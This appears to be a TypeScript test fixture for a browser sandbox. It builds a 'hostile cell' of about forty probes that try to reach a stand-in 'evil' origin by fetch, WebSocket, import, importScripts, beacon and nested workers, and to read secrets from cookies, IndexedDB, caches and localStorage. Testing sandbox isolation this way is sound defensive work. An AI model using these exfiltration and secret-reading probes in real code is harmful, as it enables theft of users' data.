/**
 * A cell that tries every way out that a worker may have. Each probe ends with a word on how it went; what counts is not that word but
 * what the other side saw: a request in a log, or a secret in the answer.
 */

/** Where a probe must be seen when nothing holds it back. */
export type Seen = "elsewhere" | "home" | "secret";

/** Name, where it is seen, and the body of an async function of (evil, home, u, wait): `u(origin, name)` makes an address that says which probe asked. */
const probes: readonly (readonly [name: string, seen: Seen, body: string])[] = [
  ["fetch", "elsewhere", `await fetch(u(evil, "fetch"), { mode: "no-cors" })`],
  ["fetch-home", "home", `await fetch(u(home, "fetch-home"))`],
  [
    "fetch-keepalive",
    "elsewhere",
    `await fetch(u(evil, "fetch-keepalive"), { mode: "no-cors", keepalive: true, method: "POST", body: "x" })`,
  ],
  ["xhr", "elsewhere", `const x = new XMLHttpRequest(); x.open("GET", u(evil, "xhr")); x.send(); await wait(400)`],
  ["xhr-sync", "elsewhere", `const x = new XMLHttpRequest(); x.open("GET", u(evil, "xhr-sync"), false); x.send()`],
  ["xhr-home", "home", `const x = new XMLHttpRequest(); x.open("GET", u(home, "xhr-home")); x.send(); await wait(400)`],
  ["websocket", "elsewhere", `new WebSocket(u(evil, "websocket").replace("http", "ws")); await wait(400)`],
  [
    "websocket-stream",
    "elsewhere",
    `const s = new WebSocketStream(u(evil, "websocket-stream").replace("http", "ws")); await s.opened`,
  ],
  ["websocket-home", "home", `new WebSocket(u(home, "websocket-home").replace("http", "ws")); await wait(400)`],
  [
    "webtransport",
    "elsewhere",
    `const t = new WebTransport(u(evil, "webtransport").replace("http:", "https:")); await Promise.race([t.ready, wait(1000)])`,
  ],
  [
    "rtc",
    "elsewhere",
    `const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL(evil).host }] }); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer()); await wait(800)`,
  ],
  ["fetch-later", "elsewhere", `fetchLater(u(evil, "fetch-later"), { activateAfter: 0 }); await wait(400)`],
  ["eventsource", "elsewhere", `const s = new EventSource(u(evil, "eventsource")); await wait(400); s.close()`],
  ["importscripts", "elsewhere", `importScripts(u(evil, "importscripts"))`],
  ["import-function", "elsewhere", `await Function("a", "return import(a)")(u(evil, "import-function"))`],
  ["import-eval", "elsewhere", `await (0, eval)("import(" + JSON.stringify(u(evil, "import-eval")) + ")")`],
  ["import-home", "home", `await Function("a", "return import(a)")(u(home, "import-home"))`],
  [
    "import-data",
    "elsewhere",
    `await Function("a", "return import(a)")("data:text/javascript,import " + JSON.stringify(u(evil, "import-data")))`,
  ],
  [
    "import-json",
    "elsewhere",
    `await Function("a", "return import(a, { with: { type: 'json' } })")(u(evil, "import-json"))`,
  ],
  [
    "importscripts-blob",
    "elsewhere",
    `const text = "fetch(" + JSON.stringify(u(evil, "importscripts-blob")) + ", { mode: 'no-cors' }).catch(() => 0)"; importScripts(URL.createObjectURL(new Blob([text]))); await wait(300)`,
  ],
  [
    "import-timer",
    "elsewhere",
    `setTimeout("import(" + JSON.stringify(u(evil, "import-timer")) + ").catch(() => 0)"); await wait(400)`,
  ],
  [
    "font",
    "elsewhere",
    `const f = new FontFace("q", "url(" + u(evil, "font") + ")"); self.fonts?.add(f); await f.load()`,
  ],
  [
    "wasm-streaming",
    "elsewhere",
    `await WebAssembly.compileStreaming(fetch(u(evil, "wasm-streaming"), { mode: "cors" }))`,
  ],
  ["nested-data", "elsewhere", `await inner("data:text/javascript," + encodeURIComponent(code("nested-data")))`],
  ["nested-blob", "elsewhere", `await inner(URL.createObjectURL(new Blob([code("nested-blob")])))`],
  [
    "nested-module",
    "elsewhere",
    `await inner(URL.createObjectURL(new Blob(["import " + JSON.stringify(u(evil, "nested-module"))], { type: "text/javascript" })), "module")`,
  ],
  ["nested-home", "home", `await inner(u(home, "nested-home"))`],
  ["shared-worker", "home", `new SharedWorker(u(home, "shared-worker")); await wait(400)`],
  [
    "found-again",
    "elsewhere",
    `let o = globalThis, f; while (o && !f) { f = Object.getOwnPropertyDescriptor(o, "fetch")?.value; o = Object.getPrototypeOf(o); } await f.call(globalThis, u(evil, "found-again"), { mode: "no-cors" })`,
  ],
  ["beacon", "elsewhere", `navigator.sendBeacon(u(evil, "beacon"), "x"); await wait(200)`],
  ["service-worker", "home", `await navigator.serviceWorker.register(u(home, "service-worker"))`],
  [
    "filter",
    "elsewhere",
    `const c = new OffscreenCanvas(8, 8).getContext("2d"); c.filter = "url(" + u(evil, "filter") + "#f)"; c.fillRect(0, 0, 8, 8); await wait(200)`,
  ],
  [
    "indexeddb",
    "secret",
    `return await new Promise((done, fail) => { const o = indexedDB.open("secret"); o.onerror = () => fail(o.error); o.onsuccess = () => { const g = o.result.transaction("s").objectStore("s").get("k"); g.onsuccess = () => done(g.result); g.onerror = () => fail(g.error); }; })`,
  ],
  ["caches", "secret", `return await (await (await caches.open("secret")).match(home + "/k")).text()`],
  [
    "opfs",
    "secret",
    `const d = await navigator.storage.getDirectory(); return await (await (await d.getFileHandle("secret")).getFile()).text()`,
  ],
  [
    "storage-buckets",
    "secret",
    `const b = await navigator.storageBuckets.open("secret"); return await (await (await b.caches.open("secret")).match(home + "/k")).text()`,
  ],
  [
    "file-system",
    "secret",
    `const s = webkitRequestFileSystemSync(0, 1024); return new FileReaderSync().readAsText(s.root.getFile("secret", {}).file())`,
  ],
  [
    "broadcast",
    "secret",
    `return await new Promise((done) => { const b = new BroadcastChannel("secret"); b.onmessage = (e) => done(e.data); b.postMessage("ask"); })`,
  ],
  ["locks", "secret", `return (await navigator.locks.query()).held.map(({ name }) => name).join()`],
  ["cookies", "secret", `return (await cookieStore.getAll()).map(({ value }) => value).join()`],
  ["local-storage", "secret", `return localStorage.getItem("secret")`],
];

/** Probes whose way does not exist in any worker of this browser; the control shows that it does not. */
export const absent: ReadonlySet<string> = new Set([
  "rtc",
  "fetch-later",
  "beacon",
  "shared-worker",
  "service-worker",
  "local-storage",
  "filter",
  "cookies",
]);

export const channels: readonly { readonly name: string; readonly seen: Seen }[] = probes.map(([name, seen]) => ({
  name,
  seen,
}));

/** The address that a probe asks for. */
export const trace = (name: string): string => `/x-${name}.js`;

const body = `
  const wait = (ms) => new Promise((done) => setTimeout(done, ms));
  const u = (origin, name) => origin + "/x-" + name + ".js";
  const code = (name) => "fetch(" + JSON.stringify(u(evil, name)) + ",{mode:'no-cors'}).then(()=>postMessage('out'),e=>postMessage(String(e)))";
  const inner = (address, type = "classic") => new Promise((done, fail) => {
    const worker = new Worker(address, { type });
    worker.onmessage = ({ data }) => done(data);
    worker.onerror = () => fail("refused");
  });
  const probes = {${probes.map(([name, , text]) => `\n    ${JSON.stringify(name)}: async () => { ${text} },`).join("")}
  };
  for (const [name, probe] of Object.entries(probes)) {
    let said;
    try {
      said = await Promise.race([probe(), wait(1500).then(() => "nothing came")]);
    } catch (error) {
      said = "threw " + error;
    }
    yield { name, said: String(said) };
  }
`;

/** The hostile text, as a reader could paste it into a cell. */
export const hostileCell = `export async function* run({ evil, home }) {${body}}\n`;

/** The same text in a plain worker of the site: what it does when nothing holds it back. */
export const unguardedWorker = `
  async function* run({ evil, home }) {${body}}
  onmessage = async ({ data }) => {
    const all = [];
    for await (const value of run(data)) all.push(value);
    postMessage(all);
  };
`;

/** Runs in the page: hides the secret wherever a site can keep one. */
export async function hideSecret(secret: string): Promise<void> {
  await new Promise<void>((done, fail) => {
    const opening = indexedDB.open("secret", 1);
    opening.onupgradeneeded = () => opening.result.createObjectStore("s");
    opening.onerror = () => fail(opening.error);
    opening.onsuccess = () => {
      const change = opening.result.transaction("s", "readwrite");
      change.objectStore("s").put(secret, "k");
      change.oncomplete = () => done();
    };
  });
  const cache = await caches.open("secret");
  await cache.put(`${location.origin}/k`, new Response(secret));
  const directory = await navigator.storage.getDirectory();
  const file = await (await directory.getFileHandle("secret", { create: true })).createWritable();
  await file.write(secret);
  await file.close();
  const { storageBuckets } = navigator as unknown as {
    storageBuckets: { open(name: string): Promise<{ caches: CacheStorage }> };
  };
  const bucket = await storageBuckets.open("secret");
  await (await bucket.caches.open("secret")).put(`${location.origin}/k`, new Response(secret));
  await new Promise<void>((done, fail) => {
    const { webkitRequestFileSystem: open } = window as unknown as {
      webkitRequestFileSystem(kind: number, size: number, use: (system: FileSystem) => void, fail: () => void): void;
    };
    const use = ({ root }: FileSystem) =>
      root.getFile("secret", { create: true }, (entry) => {
        type Writable = {
          createWriter(use: (writer: { onwriteend: () => void; write(blob: Blob): void }) => void): void;
        };
        (entry as unknown as Writable).createWriter((writer) => {
          writer.onwriteend = () => done();
          writer.write(new Blob([secret]));
        });
      });
    open(0, 1024, use, () => fail(new Error("no file system")));
  });
  new BroadcastChannel("secret").onmessage = ({ target }) => (target as BroadcastChannel).postMessage(secret);
  navigator.locks.request(secret, () => new Promise(() => undefined));
  // biome-ignore lint/suspicious/noDocumentCookie: it is what a cell must not read
  document.cookie = `secret=${secret}`;
  localStorage.setItem("secret", secret);
}
